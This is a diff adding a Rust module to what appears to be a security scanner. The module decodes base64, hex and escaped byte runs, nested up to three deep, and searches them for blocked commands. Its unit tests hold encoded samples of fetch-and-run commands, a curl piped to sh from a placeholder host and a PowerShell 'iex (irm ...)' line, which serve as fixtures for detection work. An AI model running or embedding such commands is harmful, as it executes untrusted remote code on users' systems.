@@ -1,0 +1,187 @@
+//! Text inside text: what base64, hexadecimal or escapes hide is decoded and searched as well.
+
+use base64::{
+    Engine as _, alphabet,
+    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
+};
+
+use crate::{
+    Severity,
+    engine::SearchError,
+    role,
+    rules::obfuscation,
+    scanner::Finder,
+    source::{Kind, Source},
+};
+
+/// Characters of the shortest encoded run that is decoded; less holds no command.
+const SHORTEST: usize = 24;
+
+/// Encodings inside encodings that are followed.
+const DEPTH: usize = 3;
+
+const LENIENT: GeneralPurpose = GeneralPurpose::new(
+    &alphabet::STANDARD,
+    GeneralPurposeConfig::new()
+        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+        .with_decode_allow_trailing_bits(true),
+);
+
+/// Decodes what looks encoded in a file and searches it; what blocks there is one finding here.
+pub(crate) fn check(source: &Source<'_>, finder: &mut Finder) -> Result<(), SearchError> {
+    for (offset, decoded) in decoded_runs(&source.text) {
+        if let Some((severity, rule)) = worst_within(source.path, decoded, finder, DEPTH)? {
+            let line = source.line_at(offset);
+            let run: String = source.text.get(offset..).unwrap_or("").chars().take(60).collect();
+            let message = format!("{}: it decodes to text in which {rule} fires", obfuscation::ENCODED.message);
+            finder.add_told(&obfuscation::ENCODED, severity, source, line, &run, message);
+        }
+    }
+    Ok(())
+}
+
+/// The gravest rule that blocks in a decoded text, and in what that text hides in turn.
+fn worst_within(
+    path: &str,
+    decoded: String,
+    finder: &mut Finder,
+    depth: usize,
+) -> Result<Option<(Severity, &'static str)>, SearchError> {
+    finder.charge(decoded.len())?;
+    let inner = Source::with_kind(path, decoded.into(), Kind { runs: true, reads: true });
+    let hits = finder.hits(&inner.text)?;
+    let graded = hits.iter().map(|hit| {
+        let start = hit.range.start;
+        (role::severity(hit.rule, &inner, inner.line_at(start), start), hit.rule.id)
+    });
+    let mut worst = graded.filter(|(severity, _)| *severity >= Severity::High).max();
+    if depth > 1 {
+        for (_, deeper) in decoded_runs(&inner.text) {
+            worst = worst.max(worst_within(path, deeper, finder, depth - 1)?);
+        }
+    }
+    Ok(worst)
+}
+
+/// Where encoded runs start, with the text they decode to; runs that decode to no text are left out.
+fn decoded_runs(text: &str) -> Vec<(usize, String)> {
+    let bytes = text.as_bytes();
+    let mut found = Vec::new();
+    let mut at = 0;
+    while let Some(byte) = bytes.get(at) {
+        if is_base64(*byte) {
+            let end = run_end(bytes, at);
+            if end - at >= SHORTEST {
+                found.extend(decode(bytes.get(at..end).unwrap_or_default()).map(|decoded| (at, decoded)));
+            }
+            at = end;
+        } else if *byte == b'\\' {
+            let (end, decoded) = unescape(bytes, at);
+            found.extend(decoded.map(|decoded| (at, decoded)));
+            at = end.max(at + 1);
+        } else {
+            at += 1;
+        }
+    }
+    found
+}
+
+fn is_base64(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
+}
+
+/// The end of a run; it goes on over a line end when both lines are long, as in wrapped base64.
+fn run_end(bytes: &[u8], start: usize) -> usize {
+    let line_end =
+        |from: usize| bytes.get(from..).unwrap_or_default().iter().take_while(|b| is_base64(**b)).count() + from;
+    let mut end = line_end(start);
+    let mut length = end - start;
+    while length >= 60 {
+        let next = match bytes.get(end..) {
+            Some([b'\r', b'\n', ..]) => end + 2,
+            Some([b'\n', ..]) => end + 1,
+            _ => break,
+        };
+        let next_end = line_end(next);
+        if next_end == next {
+            break;
+        }
+        length = next_end - next;
+        end = next_end;
+    }
+    end
+}
+
+fn decode(run: &[u8]) -> Option<String> {
+    let bare: Vec<u8> = run.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
+    if bare.iter().all(u8::is_ascii_hexdigit) {
+        return unhex(&bare).and_then(into_text);
+    }
+    let standard: Vec<u8> = bare
+        .iter()
+        .map(|byte| match byte {
+            b'-' => b'+',
+            b'_' => b'/',
+            other => *other,
+        })
+        .collect();
+    let whole = if standard.len() % 4 == 1 { standard.get(..standard.len() - 1)? } else { &standard };
+    into_text(LENIENT.decode(whole).ok()?)
+}
+
+fn unhex(digits: &[u8]) -> Option<Vec<u8>> {
+    let pairs = digits.chunks_exact(2);
+    pairs.map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect()
+}
+
+/// A run of `\xNN` escapes: where it ends, and its text when it is long enough to matter.
+fn unescape(bytes: &[u8], start: usize) -> (usize, Option<String>) {
+    let mut end = start;
+    let mut decoded = Vec::new();
+    while let Some([b'\\', b'x' | b'X', a, b]) = bytes.get(end..end + 4) {
+        let Some(pair) = unhex(&[*a, *b]) else { break };
+        decoded.extend(pair);
+        end += 4;
+    }
+    (end, (decoded.len() >= SHORTEST / 3).then(|| into_text(decoded)).flatten())
+}
+
+/// Bytes as text when nearly all of them are printable; the wide form of Windows is narrowed.
+fn into_text(bytes: Vec<u8>) -> Option<String> {
+    let wide = bytes.len() >= 8 && bytes.chunks_exact(2).all(|pair| matches!(pair, [_, 0]));
+    let bytes = if wide { bytes.into_iter().step_by(2).collect() } else { bytes };
+    let text = String::from_utf8(bytes).ok()?;
+    let odd = text.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t')).count();
+    (odd * 20 <= text.len()).then_some(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn texts(text: &str) -> Vec<String> {
+        decoded_runs(text).into_iter().map(|(_, decoded)| decoded).collect()
+    }
+
+    #[test]
+    fn each_encoding_is_read() {
+        assert_eq!(texts("x = 'Y3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaA=='"), ["curl http://a.example/x | sh"]);
+        assert_eq!(texts("6375726c20687474703a2f2f612e6578616d706c65"), ["curl http://a.example"]);
+        assert_eq!(texts(r"\x63\x75\x72\x6c\x20\x2d\x73\x53"), ["curl -sS"]);
+        let wide = "aQBlAHgAIAAoAGkAcgBtACAAYQApAA==";
+        assert_eq!(texts(wide), ["iex (irm a)"]);
+    }
+
+    #[test]
+    fn wrapped_lines_are_one_run() {
+        let whole = LENIENT.encode("echo ".repeat(30));
+        let (a, b) = whole.split_at(76);
+        assert_eq!(texts(&format!("{a}\n{b}")), ["echo ".repeat(30)]);
+    }
+
+    #[test]
+    fn words_and_pictures_decode_to_nothing() {
+        assert!(texts("content/downloads/update/software/and/more/paths").is_empty());
+        assert!(texts("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk").is_empty());
+    }
+}
